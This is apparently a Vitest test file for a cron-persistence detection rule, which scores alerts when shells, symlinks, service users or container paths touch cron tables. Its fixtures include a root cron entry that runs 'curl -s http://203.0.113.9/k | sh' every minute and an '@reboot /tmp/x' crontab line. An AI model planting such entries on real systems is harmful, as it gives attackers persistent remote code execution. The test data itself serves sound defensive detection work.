import { describe, expect, test } from 'vitest';
import { seconds } from '../../src/core/duration.ts';
import { addAlert, added, scoresOf } from './cron-alerts.ts';
import { outcome } from './events.ts';
import { auditedFile, crontabLine, started } from './linux-events.ts';

const JOB = '/etc/cron.d/job';
const scores = (...args: Parameters<typeof added>) => scoresOf(added(...args));

describe('X3, what the shell before the writer says is written', () => {
  const written = (atMs = 0) => auditedFile(JOB, { image: '/usr/bin/tee', pid: 77, atMs });
  const shell = (atMs: number, table = JOB) =>
    started(
      '/usr/bin/dash',
      `sh -c echo "* * * * * root curl -s http://203.0.113.9/k | sh" > ${table}`,
      {
        atMs,
      },
    );

  test('gives the job, and what it is worth', () => {
    expect(scores([written()])).toEqual([30]);
    const [alert, ...more] = added([shell(-1), written()]);
    expect(more).toEqual([]);
    expect(alert).toMatchObject({
      score: 75,
      tier: 'baseline',
      count: 2,
      details: {
        fileOp: 'create',
        cronEntry: '* * * * * root curl -s http://203.0.113.9/k | sh',
        writer: '/usr/bin/tee',
      },
    });
  });

  test('counts within ten seconds, before the file or behind it', () => {
    expect(scores([shell(-seconds(10)), written()])).toEqual([75]);
    expect(scores([shell(-seconds(10) - 1), written()])).toEqual([30]);
    expect(scores([written(), shell(seconds(10))])).toEqual([75]);
    expect(scores([shell(-1, '/etc/cron.d/other'), written()])).toEqual([30]);
  });

  test('proves nothing alone', () => {
    expect(added([shell(0)])).toEqual([]);
    expect(added([shell(0), auditedFile(JOB, { op: 'write', access: 'append', atMs: 1 })])).toEqual(
      [],
    );
  });

  test('gives the job of a first crontab that syslog alone tells of', () => {
    const log = crontabLine('root', 'CMD', 'true', { program: 'cron', atMs: -seconds(100_000) });
    const command = started('/usr/bin/bash', 'bash -c echo "@reboot /tmp/x" | crontab -', {
      user: 'alice',
      atMs: -1,
    });
    const [alert] = added([log, command, crontabLine('alice', 'REPLACE', 'alice')]);
    expect(alert?.details).toMatchObject({ cronEntry: '@reboot /tmp/x', tableUser: 'alice' });
    expect(alert?.score).toBe(55);
  });

  test('can be switched off, with all that is read of the job', () => {
    const extended = { x3: false };
    expect(scores([shell(-1), written()], { extended })).toEqual([30]);
    const spelled = { image: '/usr/bin/dash', commandLine: `sh -c echo "@reboot root x" > ${JOB}` };
    expect(scores([auditedFile(JOB, spelled)])).toEqual([40]);
    const [alert] = added([auditedFile(JOB, spelled)], { extended });
    expect([alert?.score, alert?.details['cronEntry']]).toEqual([30, undefined]);
  });
});

describe('X2, X4 and X6, what is strange about file, writer and place', () => {
  const link = auditedFile(JOB, { link: 'symbolic', linkTarget: '/dev/shm/.x' });
  const byService = auditedFile(JOB, { user: 'www-data' });
  const merged = `/var/lib/docker/overlay2/${'a'.repeat(64)}/merged`;
  const inContainer = auditedFile(`${merged}${JOB}`);

  test.each([
    ['x2', link, 50],
    ['x4', byService, 55],
    ['x6', inContainer, 40],
  ] as const)('%s can be switched off', (rule, event, score) => {
    expect(scores([event])).toEqual([score]);
    expect(scores([event], { extended: { [rule]: true } })).toEqual([score]);
    expect(scores([event], { extended: { [rule]: false } })).toEqual([30]);
  });

  test('x6 names the root, also that of a process', () => {
    const [alert] = added([auditedFile(`/proc/4131/root${JOB}`)]);
    expect(alert?.score).toBe(40);
    expect(alert?.details['containerRoot']).toBe('/proc/4131/root');
    expect(alert?.reasons.map(({ text }) => text)).toContain(
      'lies in the root of a container or process, as seen from outside: /proc/4131/root',
    );
  });

  test('an entry covers a link once links do not count', () => {
    const options = { allowEntries: [{ path: JOB }], allow: 'drop' } as const;
    expect(scores([link], options)).toEqual([50]);
    const off = outcome([addAlert({ ...options, extended: { x2: false } })], [link]);
    expect(off.alerts).toEqual([]);
  });
});
